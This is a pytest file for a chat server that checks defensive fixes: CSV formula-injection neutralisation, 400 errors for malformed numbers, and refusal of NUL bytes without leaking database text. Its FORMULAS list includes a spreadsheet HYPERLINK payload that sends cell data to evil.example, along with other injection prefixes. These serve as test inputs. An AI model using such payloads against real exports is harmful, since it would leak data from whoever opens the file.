"""Input holes of issue 11 (items 12-14), tried as an attacker would: chat text that a spreadsheet runs
when an operator opens the CSV export, query parameters that made the operators' API answer 500, and
U+0000 that SQLite stored and PostgreSQL refused with its own error text. In-process apps on SQLite and
PostgreSQL."""

from __future__ import annotations

import base64
import csv
import io
import json

from aiohttp import FormData
from sqlalchemy import exc as sa_exc
from support.auth import token
from support.images import png
from support.operators import OPERATOR, seed
from support.ws import connect, refused

from collab.errors import StoreError
from collab.store.errors import translate

EVENTS = "/api/channels/{}/events"

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\tTAB", "\rCR"]


async def csv_rows(client, channel: str) -> list[list[str]]:
    response = await client.get(EVENTS.format(channel) + "?format=csv", headers=OPERATOR)
    assert response.status == 200, await response.text()
    return list(csv.reader(io.StringIO(await response.text(), newline="")))


async def test_the_csv_export_neutralises_formulas(start) -> None:
    client = await start()
    # A guest named `=cmd` says each formula on the socket, as anyone may.
    guest = await connect(client, channel="room", nickname="=cmd")
    for text in FORMULAS:
        await guest.send(type="message", content=text)
        await guest.expect("message", content=text)
    # Other columns an attacker chooses: a user id, an op id, an event type; and text that is harmless.
    await seed(client, "room", [{"type": "message", "data": {"content": "a-b = c"}, "user": "-u", "id": "@op"}])

    rows = await csv_rows(client, "room")
    header, said = rows[0], [row for row in rows[1:] if row[3] == "message"]
    content, nickname, user_id, op_id = (header.index(name) for name in ("content", "nickname", "user_id", "id"))
    assert [row[content] for row in said] == [*("'" + text for text in FORMULAS), "a-b = c"]
    assert {row[nickname] for row in said[:-1]} == {"'=cmd"}
    assert said[-1][user_id] == "'-u" and said[-1][op_id] == "'@op"
    assert all(row[0].isdigit() for row in rows[1:])  # numbers stay numbers


# -- item 13: every bad number or duration a 400 that names it -------------------------------------------

INT64_MAX = 2**63 - 1
BAD_NUMBERS = ["²", "³", "٣", "1²", str(2**63), str(2**64), "9" * 5000, "-1", "+1", " 1", "1_000", "0x10", "1e3"]


async def assert_bad_request(response, name: str) -> None:
    assert response.status == 400, (name, response.status, await response.text())
    body = await response.json()
    assert body["error"] == "bad_request" and f"'{name}'" in body["message"], body


async def test_bad_numbers_in_the_history_api_are_400s_that_name_them(start) -> None:
    client = await start()
    await seed(client, "room", [{"type": "message", "data": {"content": "hi"}, "user": "ann"}])
    for name in ("after", "before", "limit"):
        for value in BAD_NUMBERS:
            response = await client.get(EVENTS.format("room"), params={name: value}, headers=OPERATOR)
            await assert_bad_request(response, name)
    for name in ("since", "until"):
        for value in ("9999999999d", "99999999999999999999w", "²d", "٣h", "0001-01-01T00:00:00+01:00", "junk"):
            response = await client.get(EVENTS.format("room"), params={name: value}, headers=OPERATOR)
            await assert_bad_request(response, name)
    # The largest values that fit are fine, and so is a century-old age.
    for name, value in (("after", INT64_MAX), ("before", INT64_MAX), ("limit", INT64_MAX), ("since", "36500d")):
        response = await client.get(EVENTS.format("room"), params={name: str(value)}, headers=OPERATOR)
        assert response.status == 200, (name, await response.text())
    response = await client.get(
        EVENTS.format("room"), params={"format": "csv", "limit": str(INT64_MAX)}, headers=OPERATOR
    )
    assert response.status == 200


async def test_a_crafted_cursor_out_of_range_is_a_400(start) -> None:
    client = await start()
    await seed(client, "room", [{"type": "message", "data": {"content": "hi"}, "user": "ann"}])
    for seq, after, before in ((2**63, 0, None), (0, 2**64, None), (0, 0, 2**63), (-1, 0, None)):
        body = {"v": 1, "c": "room", "s": seq, "a": after, "f": [before, None, None, [], [], None]}
        cursor = base64.urlsafe_b64encode(json.dumps(body).encode()).decode().rstrip("=")  # orjson stops at 2**64
        response = await client.get(EVENTS.format("room"), params={"cursor": cursor}, headers=OPERATOR)
        await assert_bad_request(response, "cursor")


async def test_bad_numbers_elsewhere_are_400s_that_name_them(start) -> None:
    client = await start()
    for value in BAD_NUMBERS:
        await assert_bad_request(await client.get("/api/docs/notes", params={"at": value}, headers=OPERATOR), "at")
        await assert_bad_request(await client.get("/api/media", params={"limit": value}), "limit")
    assert (await client.get("/api/docs/notes", params={"at": str(INT64_MAX)}, headers=OPERATOR)).status == 404
    assert (await client.get("/api/media", params={"limit": str(INT64_MAX)})).status == 200
    # A revocation's `before` is a time or an age, like `since`.
    for value in ("9999999999d", "0001-01-01T00:00:00+01:00"):
        response = await client.post(
            "/api/moderation/revoke", json={"user_id": "bob", "before": value}, headers=OPERATOR
        )
        await assert_bad_request(response, "before")


async def test_bad_since_on_the_socket_is_refused_with_its_name(start) -> None:
    client = await start()
    for value in ("²", "٣", str(2**63), "9" * 5000):
        code, frames = await refused(client, channel="room", since=value)
        assert code == 1008, (value, code, frames)
        assert frames[0]["code"] == "bad_request" and "'since'" in frames[0]["message"], frames
    peer = await connect(client, channel="room")
    await peer.send(type="subscribe", channel="other", since=2**63)
    error = await peer.expect("error")
    assert error["code"] == "bad_request" and "'since'" in error["message"], error
    await peer.send(type="subscribe", channel="other", since=INT64_MAX)
    assert (await peer.expect("subscribed"))["channel"] == "other"


# -- item 14: U+0000 refused the same way on both stores, and no database text in errors ---------------

DATABASE_WORDS = ("asyncpg", "sqlite", "postgres", "unicode escape", "0x00", "invalid byte", "SQL", "character varying")


def assert_no_database_text(message: str) -> None:
    assert not any(word.lower() in message.lower() for word in DATABASE_WORDS), message


async def test_nul_in_what_a_client_sends_is_refused_before_the_store(start) -> None:
    client = await start()
    peer = await connect(client, channel="room", nickname="ann")
    head = peer.welcome["seq"]
    frames = [
        {"type": "message", "content": "a\x00b", "id": "m1"},
        {"type": "publish", "event": "poke", "data": {"text": "x\x00"}, "id": "m2"},
        {"type": "publish", "event": "poke", "data": {"k\x00": 1}, "id": "m3"},
        {"type": "publish", "event": "po\x00ke", "data": {}, "id": "m4"},
        {"type": "message", "content": "fine", "id": "m\x00"},
        {"type": "create_room", "name": "secret", "private": True, "members": ["bob\x00"]},
    ]
    for frame in frames:
        await peer.send(**frame)
        error = await peer.expect("error")
        assert error["code"] == "bad_request", (frame, error)
        assert "U+0000" in error["message"], (frame, error)
        assert_no_database_text(error["message"])
    # Nothing was stored, and the socket still works; text that only looks like an escape is kept.
    await peer.send(type="message", content="a\\u0000b", id="ok")
    said = await peer.expect("message", id="ok")
    assert said["seq"] == head + 1 and said["content"] == "a\\u0000b"
    page = await (await client.get(EVENTS.format("room"), headers=OPERATOR)).json()
    assert [event["content"] for event in page["events"]] == ["a\\u0000b"]
    channels = await (await client.get("/api/channels", headers=OPERATOR)).json()
    assert "secret" not in {channel["name"] for channel in channels["channels"]}


async def test_nul_in_operator_and_media_input_is_refused_or_removed(start) -> None:
    client = await start()
    peer = await connect(client, channel="room", nickname="ann")
    await peer.send(type="message", content="the room exists", id="first")
    await peer.expect("message", id="first")
    member = await client.put("/api/channels/room/members/bob%00x", headers=OPERATOR)
    await assert_bad_request_without_database_text(member)
    for body in ({"user_id": "bob\x00"}, {"user_id": "bob", "reason": "spam\x00"}):
        await assert_bad_request_without_database_text(
            await client.post("/api/moderation/kick", json=body, headers=OPERATOR)
        )
        await assert_bad_request_without_database_text(
            await client.post("/api/moderation/revoke", json=body, headers=OPERATOR)
        )
    assert (await (await client.get("/api/moderation/revocations", headers=OPERATOR)).json())["revocations"] == []
    # A token whose subject holds U+0000 names no user this server can store.
    bad = {"Authorization": "Bearer " + token("ann\x00", roles=["operator"])}
    response = await client.get("/api/channels", headers=bad)
    assert response.status == 401, await response.text()
    # Media metadata: control characters (U+0000 among them) are removed, on both stores alike.
    data = FormData()
    data.add_field("title", "sun\x00set")
    data.add_field("file", io.BytesIO(png()), filename="a.png", content_type="image/png")
    item = await (await client.post("/api/media", data=data, headers=OPERATOR)).json()
    assert item["title"] == "sunset", item
    changed = await client.put(f"/api/media/{item['id']}", json={"description": "x\x00y"}, headers=OPERATOR)
    assert changed.status == 200 and (await changed.json())["description"] == "xy"


async def assert_bad_request_without_database_text(response) -> None:
    assert response.status == 400, (response.status, await response.text())
    body = await response.json()
    assert body["error"] == "bad_request", body
    assert_no_database_text(body["message"])


def test_a_database_error_reaches_clients_without_the_database_text() -> None:
    driver = Exception('invalid byte sequence for encoding "UTF8": 0x00 (asyncpg UntranslatableCharacterError)')
    error = translate(sa_exc.DBAPIError("INSERT INTO events ...", {}, driver))
    assert isinstance(error, StoreError)
    assert_no_database_text(str(error))
    assert "INSERT" not in str(error)
